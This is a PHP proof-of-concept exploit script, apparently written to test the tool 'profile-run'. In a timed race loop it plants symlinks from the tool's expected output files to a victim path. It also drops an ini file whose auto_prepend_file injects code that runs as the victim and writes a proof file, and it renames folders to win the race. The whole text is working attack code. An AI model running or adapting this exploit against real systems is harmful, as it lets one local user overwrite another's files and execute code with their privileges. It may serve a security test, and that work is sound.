<?php
// The owner of a folder into which somebody else runs profile-run: php attack.php FOLDER VICTIM PROOF SECONDS.
// He puts links to VICTIM where files of the run lie or will lie, replaces what PHP would read by code of his own that
// writes PROOF, and moves the folder away.
[, $folder, $victim, $proof, $seconds] = $argv;
$code = '<?php file_put_contents(' . var_export($proof, true) . ', posix_geteuid());';
$names = [
    'journal.jsonl', 'samples.jsonl', 'target.clean.log', 'target.profile.log', 'target.measure.log', 'hooks.log', 'report.html',
    'result.json', 'load.json', 'plan.json', 'summary.md', 'profile/cachegrind.out.1',
];
$end = microtime(true) + (float) $seconds;
for ($round = 0; microtime(true) < $end; $round++) {
    foreach ($names as $name) {
        @unlink("$folder/$name");
        @symlink($victim, "$folder/$name");
    }
    @rename("$folder/php", "$folder/php.$round");
    @mkdir("$folder/php");
    @file_put_contents("$folder/php/profile-run.ini", "auto_prepend_file=\"$folder/php/prepend.php\"\n");
    @file_put_contents("$folder/php/prepend.php", $code);
    @rename("$folder/profile", "$folder/profile.$round");
    @symlink(dirname($victim), "$folder/profile");
    if ($round % 50 === 49) {
        @rename($folder, "$folder.$round");
        @mkdir($folder);
    }
    usleep(1000);
}
